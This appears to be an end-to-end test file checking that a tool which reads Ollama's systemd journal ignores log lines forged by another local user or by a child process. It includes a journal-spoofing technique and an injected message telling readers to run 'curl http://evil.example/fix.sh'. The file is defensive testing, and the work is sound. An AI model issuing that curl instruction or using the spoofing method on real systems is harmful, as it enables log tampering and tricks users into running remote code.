# SPDX-License-Identifier: MIT
"""Whose words these are: what others write into the journal, or answer, proves nothing."""
from harness import (FAST, MAIN, Skip, equal, expect, lacks, matches, slow, thorough, wait_until)

NAME = "e2eforger"
CONFIG_LINE = 'time=2026-11-28T14:50:00Z level=INFO msg="server config" env="map[OLLAMA_SCHED_SPREAD:false]"'
CPU_LINE = 'time=2026-11-28T14:50:00Z level=INFO msg="inference compute" id=cpu library=cpu'
NEXT_LINE = 'time=2026-11-28T14:50:00Z level=INFO msg="vram-based default context"'
EVIL = "your disk is broken, run curl http://evil.example/fix.sh"

MANAGER = """[Service]
User={name}
Delegate=yes
KillMode=mixed
Slice=user-{uid}.slice
Environment=HOME=/home/{name} XDG_RUNTIME_DIR=/run/user/{uid}
ExecStart=/bin/sh -c 'exec $(ls /usr/lib/systemd/systemd /lib/systemd/systemd 2> /dev/null | head -n 1) --user'
"""


class Forger:
    """Another local user with a manager of his own, as any login has."""

    def __init__(self, box):
        self.box = box
        box.sh(f"id {NAME} > /dev/null 2>&1 || useradd -m -s /bin/sh {NAME}")
        self.uid = box.sh(f"id -u {NAME}").strip()
        self.runtime = f"/run/user/{self.uid}"
        self.unit = f"user@{self.uid}.service"
        box.sh('rm -rf "$1"; install -d -o "$2" -g "$2" -m 700 "$1"', self.runtime, self.uid)
        box.write(f"/run/systemd/system/{self.unit}", MANAGER.format(name=NAME, uid=self.uid))
        box.sh('systemctl daemon-reload && systemctl start "$1"', self.unit)
        wait_until(lambda: box.exists(f"{self.runtime}/systemd/private"), "the other user's manager")

    def run(self, *words):
        return self.box.run("setpriv", f"--reuid={self.uid}", f"--regid={self.uid}", "--init-groups",
                            "env", f"XDG_RUNTIME_DIR={self.runtime}", f"HOME=/home/{NAME}", *words)

    def write_as_run(self, invocation, lines):
        """Writes lines that journald marks with another unit's invocation id."""
        link = f"{self.runtime}/systemd/units/invocation:evil.service"
        said = "".join(f"echo '{line}'; " for line in lines)
        script = f'ln -sfn "$1" {link}; sleep 0.3; {said} sleep 0.3'
        self.run("systemd-run", "--user", "--wait", "--quiet", "--unit=evil.service", "sh", "-c", script,
                 "sh", invocation).exits(0)
        self.box.sh("journalctl --sync")
        forged = self.box.sh('journalctl -q -o cat "_SYSTEMD_INVOCATION_ID=$1" _UID="$2"', invocation, self.uid)
        expect(lines[0] in forged, "the forged lines have the id of Ollama's run")

    def end(self):
        self.box.sh('systemctl stop "$1"; rm -f "/run/systemd/system/$1"; systemctl daemon-reload',
                    self.unit, check=False)


def devices(result):
    return result.evidence().get("devices"), result.evidence().get("server")


def findings(box):
    return [f["code"] for f in box.json("doctor").json["findings"]]


def all_say(box, wanted, verify, configure):
    """Every command that looks at the log says the same of the devices and the server."""
    equal(devices(box.json("verify").exits(verify)), wanted, "verify")
    equal(devices(box.json("status").exits(0)), wanted, "status")
    equal(devices(box.json(*MAIN, "--require-gpu").exits(configure)), wanted, "configure")
    lacks("OG41|OG5", str(findings(box)), "what doctor finds")


@slow
def test_lines_of_another_user_do_not_count(box):
    """He marks his lines with the id of Ollama's run: they change no verdict, in either direction."""
    box.tool(*MAIN).exits(0)
    forger = Forger(box)
    try:
        forger.write_as_run(box.snapshot().invocation, [CONFIG_LINE, CPU_LINE, NEXT_LINE])
        all_say(box, ("ok", "ok"), 0, 0)
        box.standin(misbehave="cpu")
        box.restart()
        gpu = CPU_LINE.replace("id=cpu library=cpu", "id=0 library=CUDA filter_id=0")
        forger.write_as_run(box.snapshot().invocation, [CONFIG_LINE, gpu, NEXT_LINE])
        equal(devices(box.json("verify").exits(11))[0], "failed", "on the CPU")
    finally:
        forger.end()


@slow
def test_words_of_another_user_are_not_systemds(box):
    """He writes lines about the unit, and has a unit of that name: a failed run quotes neither."""
    forger = Forger(box)
    try:
        message = f"MESSAGE=ollama.service: {EVIL}\\nUNIT=ollama.service\\nINVOCATION_ID=%s\\n"
        loop = (f'while sleep 0.05; do id=$(systemctl show -P InvocationID ollama.service); printf "{message}" "$id" '
                '| logger --journald; done')
        mine = "while sleep 0.05; do echo evil words of mine; done"
        forger.run("systemd-run", "--user", "--quiet", "--unit=e2e-liar", "sh", "-c", loop).exits(0)
        forger.run("systemd-run", "--user", "--quiet", "--unit=ollama", "sh", "-c", mine).exits(0)
        box.standin(misbehave="exit-at-start", misbehave_if="OLLAMA_NUM_PARALLEL=4")
        result = box.tool("configure", "--num-parallel", "4", *FAST).exits(7)
        box.sh("journalctl --sync")
        matches(EVIL, box.sh("journalctl -q -o cat UNIT=ollama.service"), "what he wrote")
        matches("Main process exited|Failed with result", result.text, "systemd's own words")
        lacks("evil", result.text, "what configure shows")
    finally:
        forger.end()


def write_as_child(box, script):
    """Runs a script as one of the service's processes, with its output in the journal."""
    box.sh("group=$(systemctl show -P ControlGroup ollama); echo $$ > /sys/fs/cgroup$group/cgroup.procs; "
           f"{script} | systemd-cat; journalctl --sync", timeout=120)


def test_lines_of_a_child_do_not_count(box):
    """A process of the service prints such lines: the first "server config" and what follows it count."""
    box.tool(*MAIN).exits(0)
    write_as_child(box, f"printf '%s\\n' '{CONFIG_LINE}' '{CPU_LINE}' '{NEXT_LINE}'")
    matches("id=cpu", box.journal(), "the journal")
    all_say(box, ("ok", "ok"), 0, 0)


def unlimited(box):
    box.write("/etc/systemd/system/ollama.service.d/10-rate.conf", "[Service]\nLogRateLimitIntervalSec=0\n")
    box.sh("mkdir -p /run/systemd/journald.conf.d; printf '[Journal]\\nRateLimitIntervalSec=0\\nRuntimeMaxUse=2G\\n"
           "SystemMaxUse=2G\\n' > /run/systemd/journald.conf.d/e2e.conf; systemctl restart systemd-journald")


def has_evidence_after(box, count):
    unlimited(box)
    box.tool(*MAIN).exits(0)
    few = min(box.json("verify").exits(0).seconds for _ in range(5))
    write_as_child(box, f"seq {count} | sed 's/^/[GIN] 200 | GET /'")
    try:
        logged = int(box.sh("journalctl -q -o cat -u ollama | wc -l", timeout=120))
        expect(logged > count, f"{logged} lines are in the journal")
        all_say(box, ("ok", "ok"), 0, 0)
        return few, min(box.json("verify").exits(0).seconds for _ in range(5))
    finally:
        box.sh("rm -f /run/systemd/journald.conf.d/e2e.conf; systemctl restart systemd-journald; "
               "journalctl -q --rotate --vacuum-time=1s", check=False, timeout=60)


@slow
def test_a_busy_servers_log_keeps_its_beginning(box):
    """20,000 lines later its start is still read."""
    has_evidence_after(box, 20_000)


@thorough
def test_a_million_lines_change_nothing(box):
    """A million lines later all is the same, and takes no twice as long."""
    few, many = has_evidence_after(box, 1_000_000)
    expect(many < 2 * few, f"verify took {few:.3f} s after ten lines, {many:.3f} s after a million")


@slow
def test_a_start_that_is_gone_is_said(box):
    """The journal has lost the beginning of this run: skipped, with that reason, with --require-gpu too."""
    box.tool(*MAIN).exits(0)
    box.sh("journalctl -q --sync; sleep 1.1; journalctl -q --rotate --vacuum-time=1s")
    if "server config" in box.journal():
        raise Skip("this journald keeps the files")
    result = box.json("verify").exits(0)
    equal(devices(result)[0], "skipped", "devices")
    matches("beginning of this run is no longer in the journal", str(result.json["evidence"]), "evidence")
    result = box.tool(*MAIN, "--require-gpu").exits(11)
    matches("no longer in the journal", result.text, "why")
    matches("restart", result.text, "what to do")
